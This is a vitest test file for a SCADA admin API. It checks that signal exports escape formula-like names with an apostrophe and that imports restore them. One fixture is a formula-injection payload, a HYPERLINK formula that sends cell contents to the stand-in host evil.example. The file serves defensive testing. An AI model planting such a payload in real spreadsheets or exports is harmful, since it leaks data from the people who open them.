import type { FileDownload, SignalDefinition, SignalImportResult } from '@lf/protocol';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { b64, ok } from './adminHelpers';
import { addEquipment, admin, server, startAdminWorld } from './adminWorld';

/*
 * Formula injection through exports (issue 26, defect 6): a signal named like a formula came
 * back from `signal/export` as a formula. Exported cells are made inert with a leading
 * apostrophe; import takes it off again, so an export imports to the same names.
 */
beforeAll(startAdminWorld);
afterAll(() => server.close());

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")';
const NAMES = [FORMULA, '@SUM(1)', "'=already quoted", '+1+2', 'plain'];
const csvCell = (text: string) => (/[",]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
const importCsv = [
  'name,unit,area,address,dataType,wordOrder,scale,offset,access,min,max,alarmRules',
  ...NAMES.map((name, i) => `${csvCell(name)},m,input,${i},uint16,ABCD,1,-5,r,-10,,`),
].join('\n');

async function signalsOf(equipmentId: string): Promise<SignalDefinition[]> {
  return ok(admin, '/lfscada/equipment/multi/signal/query', { equipmentId });
}

async function exportSignals(equipmentId: string, format: 'csv' | 'xlsx'): Promise<Buffer> {
  const file = await ok<FileDownload>(admin, '/lfscada/equipment/multi/signal/export', {
    equipmentId,
    format,
  });
  return Buffer.from(file.base64, 'base64');
}

async function sheetRows(data: Buffer): Promise<string[][]> {
  const workbook = new ExcelJS.Workbook();
  // exceljs types an older Buffer; the bytes are what it reads.
  await workbook.xlsx.load(data as unknown as ArrayBuffer);
  const rows: string[][] = [];
  workbook.worksheets[0]?.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1).map((value) => String(value ?? '')));
  });
  return rows;
}

describe('signal export', () => {
  let source: string;
  beforeAll(async () => {
    source = await addEquipment('公式泵');
    const result = await ok<SignalImportResult>(admin, '/lfscada/equipment/multi/signal/import', {
      equipmentId: source,
      format: 'csv',
      content: b64(importCsv),
    });
    expect(result).toMatchObject({ imported: NAMES.length, errors: [] });
  });

  it('imports a hand-made file as a spreadsheet reads it: a quote before = is taken off', async () => {
    const names = (await signalsOf(source)).map((s) => s.name);
    expect(names).toEqual([FORMULA, '@SUM(1)', '=already quoted', '+1+2', 'plain']);
  });

  it('writes formula-like names with an apostrophe in CSV, negative numbers as they are', async () => {
    const text = (await exportSignals(source, 'csv')).toString('utf8');
    const lines = text.replace('\uFEFF', '').trim().split('\n');
    expect(lines[1]).toBe(
      `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",m,input,0,uint16,ABCD,1,-5,r,-10,,`,
    );
    expect(lines.slice(2).map((line) => line.split(',')[0])).toEqual([
      "'@SUM(1)",
      "'=already quoted",
      "'+1+2",
      'plain',
    ]);
  });

  it('writes formula-like names with an apostrophe in Excel too', async () => {
    const rows = await sheetRows(await exportSignals(source, 'xlsx'));
    expect(rows.slice(1).map((row) => row[0])).toEqual([
      `'${FORMULA}`,
      "'@SUM(1)",
      "'=already quoted",
      "'+1+2",
      'plain',
    ]);
    expect(rows[1]?.[7]).toBe('-5');
  });

  for (const format of ['csv', 'xlsx'] as const) {
    it(`imports its ${format} export into another equipment under the same names`, async () => {
      const copy = await addEquipment(`公式泵副本${format}`);
      const result = await ok<SignalImportResult>(admin, '/lfscada/equipment/multi/signal/import', {
        equipmentId: copy,
        format,
        content: (await exportSignals(source, format)).toString('base64'),
      });
      expect(result).toMatchObject({ imported: NAMES.length, errors: [] });
      const strip = ({ name, offset, min }: SignalDefinition) => ({ name, offset, min });
      expect((await signalsOf(copy)).map(strip)).toEqual((await signalsOf(source)).map(strip));
    });
  }
});
